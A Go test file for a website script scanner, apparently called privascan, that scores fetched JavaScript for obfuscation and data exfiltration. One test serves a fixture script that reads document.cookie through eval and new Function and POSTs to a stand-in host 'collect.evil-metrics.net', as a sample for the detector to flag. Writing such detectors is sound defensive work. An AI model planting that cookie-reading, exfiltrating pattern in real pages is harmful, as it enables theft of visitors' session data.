package analysis

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"github.com/ternarybob/arbor"

	"github.com/ternarybob/privascan/internal/common"
	"github.com/ternarybob/privascan/internal/models"
)

func testCrawlerConfig() common.CrawlerConfig {
	return common.CrawlerConfig{
		UserAgent:      "privascan-test",
		ScriptFetchMax: 8,
		ScriptTimeout:  5 * time.Second,
		ScriptBodyCap:  100 * 1024,
	}
}

func TestShannonEntropy(t *testing.T) {
	if got := shannonEntropy(""); got != 0 {
		t.Errorf("entropy of empty string = %f, want 0", got)
	}
	if got := shannonEntropy("aaaaaaaa"); got != 0 {
		t.Errorf("entropy of uniform string = %f, want 0", got)
	}

	low := shannonEntropy(strings.Repeat("abab", 100))
	high := shannonEntropy("q9Z!x@7Lp#mK$2vW%8rT^4nB&6cY*1dF(3gH)5jS_0kA+eU=")
	if low >= high {
		t.Errorf("varied text entropy %f should exceed repetitive text entropy %f", high, low)
	}
}

func TestObfuscationScore_CleanCodeScoresLow(t *testing.T) {
	clean := `function greet(name) {
	console.log("hello " + name);
}
greet("world");
`
	if score := obfuscationScore(clean, shannonEntropy(clean)); score >= 30 {
		t.Errorf("clean source scored %d, want < 30", score)
	}
}

func TestObfuscationScore_PackedCodeScoresHigh(t *testing.T) {
	// Dense payload: long string literals, heavy punctuation, many
	// short identifiers.
	var b strings.Builder
	for i := 0; i < 60; i++ {
		b.WriteString("var _x=eval;var qz=['\\x41\\x42\\x43\\x44'];")
	}
	for i := 0; i < 6; i++ {
		b.WriteString(`var s="` + strings.Repeat("\\x6a9$#@!{}[]", 20) + `";`)
	}
	packed := b.String()

	if score := obfuscationScore(packed, shannonEntropy(packed)); score < 30 {
		t.Errorf("packed source scored %d, want >= 30", score)
	}
}

func TestObfuscationScore_Clamped(t *testing.T) {
	var b strings.Builder
	for i := 0; i < 200; i++ {
		b.WriteString(`var a="` + strings.Repeat("\\x41%$#!", 30) + `";`)
	}
	text := b.String()
	if score := obfuscationScore(text, 6.0); score > 100 {
		t.Errorf("score %d exceeds the 100 clamp", score)
	}
}

func TestCountLongStringLiterals(t *testing.T) {
	text := `var a = "` + strings.Repeat("x", 150) + `"; var b = "short";`
	if got := countLongStringLiterals(text, 100); got != 1 {
		t.Errorf("counted %d long literals, want 1", got)
	}
}

func TestAnalyze_DetectsObfuscationAndExfiltration(t *testing.T) {
	body := `eval(atob("cGF5bG9hZA=="));
new Function("return document.cookie")();
var ua = navigator.userAgent;
fetch("https://collect.evil-metrics.net/v1", {method: "POST"});
`
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/javascript")
		w.Write([]byte(body))
	}))
	defer server.Close()

	analyzer := NewScriptAnalyzer(testCrawlerConfig(), nil, arbor.NewLogger())
	record := &models.CrawlRecord{
		TargetURL: "https://example.com",
		Pages: []models.PageCapture{
			{IsHomepage: true, ExternalScripts: []string{server.URL + "/t.js"}},
		},
	}

	findings := analyzer.Analyze(context.Background(), record)
	require.Len(t, findings, 1)

	finding := findings[0]
	require.Empty(t, finding.FetchError)
	require.Len(t, finding.SHA256, 64)
	require.Equal(t, "high", finding.Risk, "eval plus new Function are two high-confidence signatures")
	require.Contains(t, finding.Obfuscation, "eval")
	require.Contains(t, finding.Obfuscation, "new-function")
	require.Contains(t, finding.Exfiltration, "document-cookie")
	require.Contains(t, finding.Exfiltration, "navigator-props")
	require.Contains(t, finding.Exfiltration, "fetch-xhr")
}

func TestAnalyze_KnownBadHashForcesHighRisk(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte(`console.log("benign");`))
	}))
	defer server.Close()

	knownBad := func(string) bool { return true }
	analyzer := NewScriptAnalyzer(testCrawlerConfig(), knownBad, arbor.NewLogger())
	record := &models.CrawlRecord{
		Pages: []models.PageCapture{{ExternalScripts: []string{server.URL + "/b.js"}}},
	}

	findings := analyzer.Analyze(context.Background(), record)
	require.Len(t, findings, 1)
	require.True(t, findings[0].KnownBad)
	require.Equal(t, "high", findings[0].Risk)
}

func TestAnalyze_FetchFailureIsRecordedNotFatal(t *testing.T) {
	analyzer := NewScriptAnalyzer(testCrawlerConfig(), nil, arbor.NewLogger())
	record := &models.CrawlRecord{
		Pages: []models.PageCapture{{ExternalScripts: []string{"http://127.0.0.1:1/down.js"}}},
	}

	findings := analyzer.Analyze(context.Background(), record)
	require.Len(t, findings, 1)
	require.NotEmpty(t, findings[0].FetchError)
	require.Equal(t, "low", findings[0].Risk)
}

func TestCandidateScripts_SkipsCDNsAndDuplicatesAndCaps(t *testing.T) {
	cfg := testCrawlerConfig()
	cfg.ScriptFetchMax = 2
	analyzer := NewScriptAnalyzer(cfg, nil, arbor.NewLogger())

	record := &models.CrawlRecord{
		Pages: []models.PageCapture{
			{ExternalScripts: []string{
				"https://cdn.jsdelivr.net/npm/vue.js", // shared CDN
				"https://tracker-one.com/a.js",
				"https://tracker-one.com/a.js", // duplicate
				"https://tracker-two.com/b.js",
				"https://tracker-three.com/c.js", // over the cap
			}},
		},
	}

	urls := analyzer.candidateScripts(record)
	require.Equal(t, []string{"https://tracker-one.com/a.js", "https://tracker-two.com/b.js"}, urls)
}
